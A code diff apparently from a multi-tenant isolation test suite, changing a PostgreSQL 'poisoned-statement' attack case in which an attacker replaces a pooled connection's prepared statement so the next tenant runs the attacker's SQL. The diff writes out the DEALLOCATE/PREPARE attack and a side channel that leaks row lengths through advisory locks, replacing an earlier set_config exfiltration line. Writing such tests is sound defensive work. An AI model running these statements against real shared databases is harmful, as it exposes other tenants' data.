@@ -88,7 +88,10 @@ def types_of_another(c: Channel) -> None:
     "C7",
     "poisoned-statement",
     title="Replace a statement that the driver has prepared",
-    sql="DEALLOCATE _pg3_0; PREPARE _pg3_0 AS SELECT ... set_config('mt.stolen', ...)  -- the next tenant executes it",
+    sql="""
+    DEALLOCATE _pg3_0; PREPARE _pg3_0 AS SELECT * FROM note t WHERE pg_try_advisory_lock(4711, length(t::text));
+    -- the next tenant executes it; then SELECT objid FROM pg_locks WHERE locktype = 'advisory'
+    """,
     why_held="Behind PgBouncer no statement has a name. At tier `login` nobody else executes on the connection.",
     source="PostgreSQL documentation, PREPARE; psycopg documentation, Prepared statements.",
     broken=Weakness.NONE,
@@ -97,9 +100,11 @@ def types_of_another(c: Channel) -> None:
     ),
 )
 def poisoned_statement(c: Channel) -> None:
-    """Whole hostile statements on a shared connection: the next tenant runs the attacker's text with its own rights."""
+    """Whole hostile statements on a shared connection: the next tenant runs the attacker's text with its own rights.
+
+    What it brings back is a session's advisory lock, numbered by the rows' lengths, which no scrub takes.
+    """
     query = c.read()
-    stolen = "set_config('mt.stolen', coalesce(current_setting('mt.stolen', true), '') || t::text, false)"
     with c.trying("EXECUTE by the victim") as trial:
         _often(c, query)
         with c.client(commit=True) as me:
@@ -111,10 +116,14 @@ def poisoned_statement(c: Channel) -> None:
                 trial.reach("the connection has no named statement to replace")
             for (name,) in named:
                 me.raw(f"DEALLOCATE {quoted(name)}")
-                me.raw(f"PREPARE {quoted(name)} AS {query} WHERE {stolen} IS NOT NULL")
+                me.raw(f"PREPARE {quoted(name)} AS {query} WHERE pg_try_advisory_lock(4711, length(t::text))")
         _often(c, query)
         with c.client() as me:
-            me.raw("SELECT current_setting('mt.stolen', true)")
+            held = "locktype = 'advisory' AND classid = 4711 AND pid = pg_backend_pid()"
+            if me.raw(f"SELECT objid FROM pg_locks WHERE {held}"):
+                trial.reach("the attacker's text was carried out")
+                if c.target is not c.me:
+                    c.learned("how long the rows are that the victim reads with its own rights")
 
 
 def _often(c: Channel, query: str) -> None:
